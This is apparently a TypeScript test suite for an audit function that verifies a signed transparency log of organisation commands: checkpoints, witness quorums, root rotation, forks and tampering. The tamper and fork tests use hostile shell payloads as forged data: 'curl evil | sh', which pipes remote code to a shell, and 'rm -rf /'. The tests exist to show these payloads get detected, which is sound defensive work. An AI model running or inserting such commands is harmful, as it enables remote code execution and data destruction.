import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { dsse, merkle, toBase64, utf8 } from '@palisade/protocol'
import { NOW, TestOrg, testKey, type TestEntry } from '../testing/test-org.test.helper.js'
import { auditLog, type AuditInput, type AuditReport } from './audit-log.js'

/** An org with root v1 and three commands, checkpoints at sizes 1, 3 and 4. */
async function goodLog(): Promise<{ org: TestOrg; input: AuditInput }> {
  const org = await new TestOrg().init()
  const checkpoints = [{ size: 1, note: await org.checkpoint(1) }]
  org.append('command', await org.signCommand())
  org.append('command', await org.signCommand({ targets: { kind: 'devices', ids: ['dev-1', 'dev-2'] } }))
  checkpoints.push({ size: 3, note: await org.checkpoint(3) })
  org.append('command', await org.signCommand({}, org.admins.slice(1, 3)))
  checkpoints.push({ size: 4, note: await org.checkpoint(4) })
  return {
    org,
    input: { org: org.org, fingerprint: org.fingerprint, entries: org.entries(), checkpoints, roots: org.rootEnvelopes, now: NOW },
  }
}

function codes(r: AuditReport): string[] {
  return [...new Set(r.findings.map((f) => f.code))].sort()
}

function failsWith(r: AuditReport, code: string, re?: RegExp): void {
  assert.equal(r.ok, false, 'expected the audit to fail')
  const f = r.findings.find((x) => x.code === code)
  assert.ok(f !== undefined, `expected ${code}, got ${JSON.stringify(r.findings.map((x) => `${x.code}: ${x.message}`))}`)
  if (re !== undefined) assert.match(f.message, re)
}

function replaceEntry(entries: readonly TestEntry[], i: number, data: Uint8Array): TestEntry[] {
  return entries.map((e) => (e.index === i ? { ...e, data } : e))
}

describe('auditLog', () => {
  describe('when the log is what the org signed', () => {
    it('passes and counts entries, commands, roots, checkpoints and witnesses', async () => {
      const { input } = await goodLog()
      const r = auditLog(input)
      assert.deepEqual(r.findings, [])
      assert.equal(r.ok, true)
      assert.equal(r.entries, 4)
      assert.equal(r.commands, 3)
      assert.equal(r.roots, 1)
      assert.equal(r.rootVersion, 1)
      assert.equal(r.checkpoints, 3)
      assert.equal(r.checkpointsVerified, 3)
      assert.equal(r.latestSize, 4)
      assert.deepEqual(r.witnesses, [{ name: 'witness0.example', cosigned: 3 }, { name: 'witness1.example', cosigned: 3 }])
      assert.deepEqual(r.warnings, [])
    })

    it('passes across a root rotation, with commands signed by the new admins', async () => {
      const org = await new TestOrg().init()
      const fresh = [testKey('rot/0'), testKey('rot/1')]
      const v2 = await org.signRoot(
        { ...org.rootObject, version: 2, admins: fresh.map((k) => ({ id: k.id, name: k.name, publicKey: toBase64(k.pub) })) },
        [...org.admins.slice(0, 2), ...fresh],
      )
      org.append('root', v2)
      org.append('command', await org.signCommand({}, fresh))
      const r = auditLog({ org: org.org, fingerprint: org.fingerprint, entries: org.entries(), checkpoints: [{ size: 3, note: await org.checkpoint() }], roots: [org.rootEnvelopes[0]!, v2], now: NOW })
      assert.deepEqual(r.findings, [])
      assert.equal(r.rootVersion, 2)
      assert.equal(r.roots, 2)
    })

    it('accepts the latest checkpoint given separately when it is one of the listed ones', async () => {
      const { input } = await goodLog()
      const r = auditLog({ ...input, latest: input.checkpoints[2]!.note })
      assert.equal(r.ok, true)
      assert.equal(r.checkpoints, 3)
    })
  })

  describe('when an entry was tampered with', () => {
    it('fails: the command signatures no longer verify and the checkpoints no longer match', async () => {
      const { input } = await goodLog()
      const env = dsse.parseEnvelope(input.entries[2]!.data)
      const text = new TextDecoder().decode(env.payload).replace('echo hello', 'curl evil | sh')
      const forged = utf8(dsse.formatEnvelope({ ...env, payload: utf8(text) }))
      const r = auditLog({ ...input, entries: replaceEntry(input.entries, 2, forged) })
      failsWith(r, 'AUDIT_COMMAND_SIGNATURES', /entry 2\).*0 admins of root v1; its command threshold is 2/)
      failsWith(r, 'AUDIT_CHECKPOINT_INCONSISTENT', /first 3 downloaded entries hash to/)
      assert.equal(r.findings.find((f) => f.code === 'AUDIT_COMMAND_SIGNATURES')?.cause, 'PROTO_SIG_THRESHOLD')
    })
  })

  describe('when a checkpoint is not cosigned', () => {
    it('fails with the witness quorum named (PROTO_WITNESS_QUORUM)', async () => {
      const { org, input } = await goodLog()
      const bare = await org.checkpoint(4, org.witnesses.slice(0, 1))
      const r = auditLog({ ...input, checkpoints: [...input.checkpoints.slice(0, 2), { size: 4, note: bare }] })
      failsWith(r, 'AUDIT_CHECKPOINT_SIGNATURE', /1 of the required 2 witnesses/)
      assert.equal(r.findings[0]!.cause, 'PROTO_WITNESS_QUORUM')
      // with the size-4 checkpoint refused, entry 3 is covered by nothing
      failsWith(r, 'AUDIT_UNCOVERED', /entries 3 to 3/)
    })

    it('fails when the log key did not sign it (PROTO_LOG_SIG)', async () => {
      const { org, input } = await goodLog()
      const impostor = { ...testKey('impostor'), name: org.origin }
      const r = auditLog({ ...input, checkpoints: [...input.checkpoints, { size: 4, note: await org.checkpoint(4, org.witnesses, impostor) }] })
      failsWith(r, 'AUDIT_CHECKPOINT_SIGNATURE')
      assert.equal(r.findings[0]!.cause, 'PROTO_LOG_SIG')
    })
  })

  describe('when an entry is signed below the command threshold', () => {
    it('fails naming the command, its signatures and the threshold', async () => {
      const org = await new TestOrg().init()
      org.append('command', await org.signCommand({ id: 'cmd-lonely' }, org.admins.slice(0, 1)))
      const r = auditLog({ org: org.org, fingerprint: org.fingerprint, entries: org.entries(), checkpoints: [{ size: 2, note: await org.checkpoint() }], now: NOW })
      assert.deepEqual(codes(r), ['AUDIT_COMMAND_SIGNATURES'])
      failsWith(r, 'AUDIT_COMMAND_SIGNATURES', /command cmd-lonely \(entry 1\) carries valid signatures of 1 admin of root v1; its command threshold is 2/)
    })

    it('counts one key signing twice once', async () => {
      const org = await new TestOrg().init()
      const a = org.admins[0]!
      org.append('command', await org.signCommand({}, [a, a]))
      const r = auditLog({ org: org.org, fingerprint: org.fingerprint, entries: org.entries(), checkpoints: [{ size: 2, note: await org.checkpoint() }], now: NOW })
      assert.deepEqual(codes(r), ['AUDIT_COMMAND_SIGNATURES'])
    })
  })

  describe('when checkpoints are inconsistent with each other', () => {
    it('fails when a cosigned checkpoint commits to another history (a fork)', async () => {
      const { org, input } = await goodLog()
      // same keys, same first entries, another command at index 3
      const forkLeaves = [...org.leaves.slice(0, 3), utf8(await org.signCommand({ id: 'cmd-fork', script: 'rm -rf /' }))]
      const fork = await org.checkpoint(4, org.witnesses, org.logKey, forkLeaves)
      const r = auditLog({ ...input, checkpoints: [...input.checkpoints, { size: 4, note: fork }] })
      failsWith(r, 'AUDIT_CHECKPOINT_INCONSISTENT', /checkpoint 4 \(listed size 4\) has root hash/)
    })

    it('fails when a later checkpoint is smaller than an earlier one', async () => {
      const { input } = await goodLog()
      const [c1, c3, c4] = input.checkpoints
      const r = auditLog({ ...input, checkpoints: [c1!, c4!, c3!] })
      assert.deepEqual(codes(r), ['AUDIT_CHECKPOINT_ORDER'])
      failsWith(r, 'AUDIT_CHECKPOINT_ORDER', /size 3, smaller than the one before it \(4\)/)
    })

    it('fails when a checkpoint is listed under another size', async () => {
      const { input } = await goodLog()
      const r = auditLog({ ...input, checkpoints: [{ size: 2, note: input.checkpoints[1]!.note }] })
      failsWith(r, 'AUDIT_CHECKPOINT_ORDER', /listed under size 2 but has size 3/)
    })
  })

  describe('when the server withholds or adds entries', () => {
    it('fails when a checkpoint covers more entries than were served', async () => {
      const { input } = await goodLog()
      const r = auditLog({ ...input, entries: input.entries.slice(0, 3) })
      failsWith(r, 'AUDIT_CHECKPOINT_BEYOND_LOG', /covers 4 entries but the server served 3/)
    })

    it('fails when entries exist beyond the latest checkpoint', async () => {
      const { org, input } = await goodLog()
      org.append('command', await org.signCommand())
      const r = auditLog({ ...input, entries: org.entries() })
      assert.deepEqual(codes(r), ['AUDIT_UNCOVERED'])
    })

    it('fails when entries are served with wrong indices', async () => {
      const { input } = await goodLog()
      const swapped = [input.entries[0]!, input.entries[2]!, input.entries[1]!, input.entries[3]!]
      failsWith(auditLog({ ...input, entries: swapped }), 'AUDIT_ENTRY_INDEX')
    })

    it('fails when there is no checkpoint at all', async () => {
      const { input } = await goodLog()
      failsWith(auditLog({ ...input, checkpoints: [] }), 'AUDIT_NO_CHECKPOINT')
    })
  })

  describe('when the roots do not lead back to the pin', () => {
    it('fails at entry 0 for another fingerprint, and checks nothing else', async () => {
      const { input } = await goodLog()
      const r = auditLog({ ...input, fingerprint: 'ab'.repeat(32) })
      assert.deepEqual(codes(r), ['AUDIT_ANCHOR'])
      assert.equal(r.findings[0]!.cause, 'PROTO_ROOT_FINGERPRINT')
      assert.equal(r.rootVersion, null)
    })

    it('fails for an empty log', () => {
      failsWith(auditLog({ org: 'acme', fingerprint: 'ab'.repeat(32), entries: [], checkpoints: [], now: NOW }), 'AUDIT_ANCHOR', /empty/)
    })

    it('fails when a root entry is not signed by the previous version', async () => {
      const org = await new TestOrg().init()
      const strangers = [testKey('s/0'), testKey('s/1')]
      const v2 = await org.signRoot({ ...org.rootObject, version: 2, admins: strangers.map((k) => ({ id: k.id, name: k.name, publicKey: toBase64(k.pub) })) }, strangers)
      org.append('root', v2)
      org.append('command', await org.signCommand({}, strangers))
      const r = auditLog({ org: org.org, fingerprint: org.fingerprint, entries: org.entries(), checkpoints: [{ size: 3, note: await org.checkpoint() }], now: NOW })
      // the rotation is refused, so the strangers' command is below threshold under v1
      assert.deepEqual(codes(r), ['AUDIT_COMMAND_SIGNATURES', 'AUDIT_ROOT_CHAIN'])
      assert.equal(r.rootVersion, 1)
    })

    it('fails when the served roots are not the logged ones', async () => {
      const { org, input } = await goodLog()
      const other = await org.signRoot({ ...org.rootObject, version: 1, expiresAt: NOW + 10 }, org.admins.slice(0, 2))
      failsWith(auditLog({ ...input, roots: [other] }), 'AUDIT_ROOTS_MISMATCH', /served root 1/)
      failsWith(auditLog({ ...input, roots: [] }), 'AUDIT_ROOTS_MISMATCH', /serves 0 root/)
    })
  })

  describe('when entries are mislabelled, malformed or foreign', () => {
    it('fails for a wrong kind label, garbage data and another org\'s command', async () => {
      const org = await new TestOrg().init()
      org.append('root', await org.signCommand())
      org.append('command', utf8('not an envelope'))
      org.append('command', await org.signCommand({ org: 'other' }))
      const r = auditLog({ org: org.org, fingerprint: org.fingerprint, entries: org.entries(), checkpoints: [{ size: 4, note: await org.checkpoint() }], now: NOW })
      assert.deepEqual(codes(r), ['AUDIT_ENTRY_INVALID'])
      assert.equal(r.findings.length, 3)
      assert.match(r.findings[0]!.message, /entry 1 is a command but the server labels it "root"/)
      assert.match(r.findings[2]!.message, /for org "other"/)
    })
  })

  it('warns (without failing) when the root in force has expired', async () => {
    const { input } = await goodLog()
    const r = auditLog({ ...input, now: NOW + 400 * 86400 })
    assert.equal(r.ok, true)
    assert.match(r.warnings[0]!, /root v1 expired/)
  })

  it('never throws, whatever bytes the server serves', async () => {
    const { input } = await goodLog()
    let state = 7
    const rnd = (n: number): number => ((state = (state * 1103515245 + 12345) >>> 0) % n)
    for (let k = 0; k < 200; k++) {
      const i = rnd(input.entries.length)
      const data = new Uint8Array(input.entries[i]!.data)
      for (let j = 0, n = 1 + rnd(4); j < n; j++) data[rnd(data.length)] = rnd(256)
      const c = rnd(input.checkpoints.length)
      const note = input.checkpoints[c]!.note.split('')
      note[rnd(note.length)] = String.fromCharCode(32 + rnd(95))
      const checkpoints = input.checkpoints.map((x, m) => (m === c ? { ...x, note: note.join('') } : x))
      const r = auditLog({ ...input, entries: replaceEntry(input.entries, i, data), checkpoints })
      assert.equal(typeof r.ok, 'boolean')
    }
  })
})
